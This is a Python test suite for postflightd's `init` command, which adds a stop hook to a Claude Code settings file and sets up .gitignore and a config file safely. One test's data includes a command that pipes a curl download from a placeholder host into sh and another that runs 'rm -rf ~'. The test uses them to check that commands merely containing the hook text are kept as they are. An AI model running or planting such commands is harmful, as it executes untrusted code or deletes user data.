"""`postflightd init`: .gitignore, the stop hook in settings, the config file; idempotent."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import tomllib
from dataclasses import replace
from pathlib import Path

import pytest

from helpers.needs import require_module, require_tool
from postflightd.cli import main
from postflightd.config import USER_ONLY_KEYS, Config, load_config
from postflightd.project.hook_files import CLAUDE, SettingsShapeError, hook_config_with
from postflightd.project.setup import MAX_INIT_FILE_BYTES, gitignore_with, systemd_escape_path

HOOK_COMMAND = CLAUDE.command

SCRIPT = Path(sys.executable).with_name("postflightd")

EXISTING_SETTINGS = {
    "permissions": {"allow": ["Bash(ls)"]},
    "hooks": {
        "Stop": [{"matcher": "", "hooks": [{"type": "command", "command": "notify-send done"}]}],
        "PreToolUse": [
            {"matcher": "Bash", "hooks": [{"type": "command", "command": "./guard.sh"}]}
        ],
    },
}


def _project(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    (root / ".claude").mkdir(parents=True)
    (root / ".claude" / "settings.json").write_text(
        json.dumps(EXISTING_SETTINGS, indent=2) + "\n", encoding="utf-8"
    )
    (root / ".gitignore").write_text("node_modules/\n", encoding="utf-8")
    return root


def _snapshot(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): p.read_text(encoding="utf-8")
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


def _run(*args: str, stdin: str = "", cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(SCRIPT), *args],
        input=stdin,
        capture_output=True,
        text=True,
        check=False,
        cwd=cwd,
        timeout=60,
    )


def test_init_twice_keeps_every_existing_hook_and_the_second_run_changes_nothing(
    tmp_path: Path,
) -> None:
    """The real console script: first run writes, second run reports nothing to change."""
    root = _project(tmp_path)
    first = _run("init", str(root), "--yes")
    assert first.returncode == 0, first.stderr
    settings = json.loads((root / ".claude" / "settings.json").read_text(encoding="utf-8"))
    assert settings["permissions"] == EXISTING_SETTINGS["permissions"]
    assert settings["hooks"]["PreToolUse"] == EXISTING_SETTINGS["hooks"]["PreToolUse"]
    stop = settings["hooks"]["Stop"]
    assert stop[0] == EXISTING_SETTINGS["hooks"]["Stop"][0]  # the user's own hook, first
    commands = [
        h["command"]
        for event in ("Stop", "SubagentStop")
        for g in settings["hooks"][event]
        for h in g["hooks"]
    ]
    assert commands.count(HOOK_COMMAND) == 2
    gitignore = (root / ".gitignore").read_text(encoding="utf-8").splitlines()
    assert gitignore[0] == "node_modules/"
    assert "specs/.state.lock" in gitignore
    assert "specs/.postflightd.pid" in gitignore
    assert (root / ".postflightd.toml").is_file()
    assert "systemctl" not in first.stdout  # said only with --systemd

    before = _snapshot(root)
    second = _run("init", str(root), "--yes")
    assert second.returncode == 0, second.stderr
    assert second.stdout == f"{root}: already set up for postflightd; nothing to change\n"
    assert _snapshot(root) == before


def test_written_config_file_loads_as_the_defaults(tmp_path: Path) -> None:
    root = _project(tmp_path)
    assert main(["init", str(root), "--yes"]) == 0
    config = load_config(None, [root])
    assert config.source == str(root / ".postflightd.toml")
    assert replace(config, source="") == Config()


def test_written_config_file_lists_every_key_a_project_may_set(tmp_path: Path) -> None:
    """Each key of config.example.toml that a project's own file may set is in the written
    file, commented out at its default: uncommented, the file still loads as the defaults."""
    root = _project(tmp_path)
    assert main(["init", str(root), "--yes"]) == 0
    path = root / ".postflightd.toml"
    lines = path.read_text(encoding="utf-8").splitlines()
    # The severity table holds examples of overrides, not defaults: left commented.
    table, uncommented = "", []
    for line in lines:
        if line.startswith("["):
            table = line.split("]")[0].strip("[")
        key = re.match(r"# ([a-z_]+) = ", line)
        uncommented.append(line[2:] if key and table != "validation.severity" else line)
    path.write_text("\n".join(uncommented) + "\n", encoding="utf-8")
    config = load_config(None, [root])
    assert replace(config, source="") == Config()

    written = set(_keys(tomllib.loads(path.read_text(encoding="utf-8"))))
    example = Path(__file__).parents[2] / "config.example.toml"
    project_keys = {
        key
        for key in _keys(tomllib.loads(example.read_text(encoding="utf-8")))
        if not any(key == u or key.startswith(u + ".") for u in USER_ONLY_KEYS)
    }
    assert project_keys - written == set()


def _keys(table: dict[str, object], prefix: str = "") -> list[str]:
    """The dotted name of every value of a TOML document."""
    keys: list[str] = []
    for name, value in table.items():
        if isinstance(value, dict):
            keys += _keys(value, f"{prefix}{name}.")
        else:
            keys.append(prefix + name)
    return keys


def test_without_a_terminal_or_yes_it_shows_the_diff_and_writes_nothing(tmp_path: Path) -> None:
    root = _project(tmp_path)
    before = _snapshot(root)
    out = _run("init", str(root))  # stdin is a pipe, not a terminal
    assert out.returncode == 1
    assert "+++ b/.claude/settings.json" in out.stdout
    assert f'+            "command": "{HOOK_COMMAND}"' in out.stdout
    assert "+++ b/.postflightd.toml" in out.stdout
    assert "--yes" in out.stderr
    assert _snapshot(root) == before


def test_on_a_terminal_it_asks_and_a_no_writes_nothing(tmp_path: Path) -> None:
    """A real pseudo-terminal on stdin: the prompt is shown; 'n' leaves every file as it was."""
    pty = require_module("pty", "the test needs a pseudo-terminal")
    root = _project(tmp_path)
    before = _snapshot(root)
    leader, follower = pty.openpty()
    try:
        proc = subprocess.Popen(
            [str(SCRIPT), "init", str(root)],
            stdin=follower,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        os.write(leader, b"n\n")
        out, _err = proc.communicate(timeout=60)
    finally:
        os.close(leader)
        os.close(follower)
    assert proc.returncode == 1
    assert "Write these changes" in out
    assert "nothing written" in out
    assert _snapshot(root) == before


def test_on_a_terminal_a_yes_writes(tmp_path: Path) -> None:
    pty = require_module("pty", "the test needs a pseudo-terminal")
    root = _project(tmp_path)
    leader, follower = pty.openpty()
    try:
        proc = subprocess.Popen(
            [str(SCRIPT), "init", str(root)],
            stdin=follower,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        os.write(leader, b"y\n")
        out, err = proc.communicate(timeout=60)
    finally:
        os.close(leader)
        os.close(follower)
    assert proc.returncode == 0, err
    assert "created .postflightd.toml" in out
    assert HOOK_COMMAND in (root / ".claude" / "settings.json").read_text(encoding="utf-8")


def test_an_existing_config_file_is_never_rewritten(tmp_path: Path) -> None:
    root = _project(tmp_path)
    (root / ".postflightd.toml").write_text('specs_dir = ".claude/specs"\n', encoding="utf-8")
    assert main(["init", str(root), "--yes"]) == 0
    assert (root / ".postflightd.toml").read_text(encoding="utf-8") == (
        'specs_dir = ".claude/specs"\n'
    )
    # The ignore entries follow the configured specs directory.
    gitignore = (root / ".gitignore").read_text(encoding="utf-8")
    assert ".claude/specs/.state.lock" in gitignore


def test_a_project_with_nothing_yet_gets_every_file(tmp_path: Path) -> None:
    root = tmp_path / "empty"
    root.mkdir()
    assert main(["init", str(root), "--yes"]) == 0
    settings = json.loads((root / ".claude" / "settings.json").read_text(encoding="utf-8"))
    assert set(settings["hooks"]) == {"Stop", "SubagentStop"}
    assert (root / ".gitignore").read_text(encoding="utf-8").endswith("specs/.postflightd.pid\n")


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("{not json", "not valid JSON"),
        ("[1, 2]", "not an object"),
        ('{"hooks": []}', '"hooks" is not an object'),
        ('{"hooks": {"Stop": {}}}', '"hooks.Stop" is not a list'),
    ],
)
def test_malformed_settings_are_an_error_and_left_alone(
    tmp_path: Path, text: str, problem: str, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "proj"
    (root / ".claude").mkdir(parents=True)
    (root / ".claude" / "settings.json").write_text(text, encoding="utf-8")
    assert main(["init", str(root), "--yes"]) == 2
    assert problem in capsys.readouterr().err
    assert (root / ".claude" / "settings.json").read_text(encoding="utf-8") == text
    assert not (root / ".postflightd.toml").exists()


def test_settings_that_are_not_utf8_or_a_symlink_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "proj"
    (root / ".claude").mkdir(parents=True)
    (root / ".claude" / "settings.json").write_bytes(b'{"x": "\xff"}')
    assert main(["init", str(root), "--yes"]) == 2
    assert "not UTF-8" in capsys.readouterr().err
    (root / ".claude" / "settings.json").unlink()
    target = tmp_path / "dotfiles-settings.json"
    target.write_text("{}", encoding="utf-8")
    (root / ".claude" / "settings.json").symlink_to(target)
    assert main(["init", str(root), "--yes"]) == 2
    assert "symbolic link" in capsys.readouterr().err
    assert target.read_text(encoding="utf-8") == "{}"


def test_init_of_a_missing_root_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["init", str(tmp_path / "nope"), "--yes"]) == 2
    assert "does not exist" in capsys.readouterr().err


def test_hook_already_present_with_whitespace_around_it_is_not_added_twice() -> None:
    text = json.dumps(
        {
            "hooks": {
                "Stop": [{"hooks": [{"type": "command", "command": "  postflightd hook claude"}]}],
                "SubagentStop": [{"hooks": [{"command": "postflightd hook claude\n"}]}],
            }
        }
    )
    assert hook_config_with(text, CLAUDE) == text


def test_gitignore_entries_already_listed_with_a_slash_are_kept_as_they_are() -> None:
    text = "/specs/.state.lock\nspecs/.postflightd.pid\n"
    assert gitignore_with(text, ("specs/.state.lock", "specs/.postflightd.pid")) == text


def test_settings_keep_their_indentation() -> None:
    text = json.dumps({"hooks": {}}, indent=4) + "\n"
    assert '\n        "Stop": [' in hook_config_with(text, CLAUDE)
    with pytest.raises(SettingsShapeError):
        hook_config_with("null", CLAUDE)


@pytest.mark.parametrize("path", ["/home/me/my-proj", "/a/.b", "/.a", "/tmp/a b/ü", "/"])
def test_systemd_escape_matches_systemd_escape(path: str) -> None:
    escape = require_tool("systemd-escape", "the reference for the escaping (systemd)")
    tool = subprocess.run([escape, "--path", path], capture_output=True, text=True, check=True)
    assert systemd_escape_path(path) == tool.stdout.strip()


def _init(root: Path) -> subprocess.CompletedProcess[str]:
    return _run("init", str(root), "--yes")


def _files(root: Path) -> dict[str, int]:
    return {str(p.relative_to(root)): p.stat().st_size for p in root.rglob("*") if p.is_file()}


@pytest.mark.slow
@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("[" * 100_000 + "]" * 100_000, "nested deeper than 64 levels"),
        ('{"hooks": {}, "a": ' + '{"b": ' * 70 + "1" + "}" * 70 + "}", "nested deeper than"),
        ('{"limit": ' + "9" * 5000 + "}", "a number of 5,000 digits"),
        ('{"limit": 1e999}', "too large to write back"),
        ('{"limit": NaN}', "NaN is not a JSON number"),
        ('{"name": "\\ud800"}', "lone surrogate"),
        ('{"hooks": {"Stop": [], "x": "\\udfff\\ud800"}}', "lone surrogate"),
    ],
)
def test_settings_init_cannot_write_back_are_exit_2_and_nothing_is_written(
    tmp_path: Path, text: str, problem: str
) -> None:
    """The real console script, a settings file an agent wrote: a message, not exit 70."""
    root = tmp_path / "proj"
    (root / ".claude").mkdir(parents=True)
    (root / ".claude" / "settings.json").write_text(text, encoding="utf-8")
    before = _files(root)
    out = _init(root)
    assert out.returncode == 2, out.stderr
    assert problem in out.stderr
    assert "Traceback" not in out.stderr and "internal error" not in out.stderr
    assert out.stdout == ""
    assert _files(root) == before


@pytest.mark.slow
@pytest.mark.parametrize("name", [".gitignore", ".claude/settings.json"])
@pytest.mark.parametrize("sparse", [True, False])
def test_a_file_over_1_mib_is_refused_unread_and_nothing_is_written(
    tmp_path: Path, name: str, sparse: bool
) -> None:
    """A sparse 64 MiB file was read whole, printed and rewritten as a real 64 MiB file."""
    root = tmp_path / "proj"
    (root / ".claude").mkdir(parents=True)
    path = root / name
    with path.open("wb") as fh:
        if sparse:
            fh.truncate(64 * 1024 * 1024)
        else:
            fh.write(b"x\n" * (MAX_INIT_FILE_BYTES // 2 + 1))
    before = _files(root)
    out = _init(root)
    assert out.returncode == 2, out.stderr
    assert "larger than 1 MiB" in out.stderr
    assert "Traceback" not in out.stderr
    assert out.stdout == ""
    assert _files(root) == before
    if sparse:
        assert path.stat().st_blocks * 512 < 1024 * 1024  # still sparse: never rewritten


@pytest.mark.slow
def test_a_file_of_exactly_1_mib_is_read(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    root.mkdir()
    line = "build/\n"
    (root / ".gitignore").write_text(
        line * (MAX_INIT_FILE_BYTES // len(line)) + "x" * (MAX_INIT_FILE_BYTES % len(line)),
        encoding="utf-8",
    )
    assert (root / ".gitignore").stat().st_size == MAX_INIT_FILE_BYTES
    out = _init(root)
    assert out.returncode == 0, out.stderr
    assert (root / ".gitignore").read_text(encoding="utf-8").endswith("specs/.postflightd.pid\n")


@pytest.mark.slow
def test_a_gitignore_holding_nul_bytes_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    root.mkdir()
    (root / ".gitignore").write_bytes(b"node_modules/\n\0\0\0\n")
    out = _init(root)
    assert out.returncode == 2, out.stderr
    assert "NUL bytes" in out.stderr
    assert (root / ".gitignore").read_bytes() == b"node_modules/\n\0\0\0\n"
    assert not (root / ".claude").exists()


@pytest.mark.slow
@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://example.invalid/x | sh; postflightd hook claude",
        "postflightd hook claude; rm -rf ~",
        "postflightd hook claude --anything",
        "echo postflightd hook claude",
    ],
)
def test_a_command_that_merely_contains_the_hook_is_not_the_hook(
    tmp_path: Path, command: str
) -> None:
    """init adds its own hook beside it, and keeps the other command as it was."""
    root = tmp_path / "proj"
    (root / ".claude").mkdir(parents=True)
    theirs = {"hooks": [{"type": "command", "command": command}]}
    settings = {"hooks": {event: [theirs] for event in ("Stop", "SubagentStop")}}
    (root / ".claude" / "settings.json").write_text(json.dumps(settings), encoding="utf-8")
    out = _init(root)
    assert out.returncode == 0, out.stderr
    written = json.loads((root / ".claude" / "settings.json").read_text(encoding="utf-8"))
    for event in ("Stop", "SubagentStop"):
        commands = [h["command"] for g in written["hooks"][event] for h in g["hooks"]]
        assert commands == [command, HOOK_COMMAND]
    assert "already set up" in _init(root).stdout


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["fifo", "directory"])
def test_a_settings_file_that_is_not_a_regular_file_is_refused(tmp_path: Path, kind: str) -> None:
    root = tmp_path / "proj"
    (root / ".claude").mkdir(parents=True)
    settings = root / ".claude" / "settings.json"
    if kind == "fifo":
        os.mkfifo(settings)
    else:
        settings.mkdir()
    out = _init(root)
    assert out.returncode == 2, out.stderr
    assert "not a regular file" in out.stderr
    assert "init leaves it alone" in out.stderr
    assert not (root / ".postflightd.toml").exists()


def test_init_says_the_hooks_one_choice(tmp_path: Path) -> None:
    """Whether the stop hook applies the file or leaves it for the workflow: said by init,
    and the key is in the configuration it writes."""
    root = tmp_path / "proj"
    (root / "specs").mkdir(parents=True)
    out = _run("init", str(root), "--yes")
    assert out.returncode == 0, out.stderr
    assert "set `[hook] apply = false`" in out.stdout
    assert "# apply = true" in (root / ".postflightd.toml").read_text(encoding="utf-8")
    (root / ".postflightd.toml").write_text("[hook]\napply = false\n", encoding="utf-8")
    (root / ".gitignore").unlink()  # something to change, so that init says more than that
    again = _run("init", str(root), "--yes")
    assert again.returncode == 0, again.stderr
    assert "The stop hook only validates ([hook] apply = false)" in again.stdout
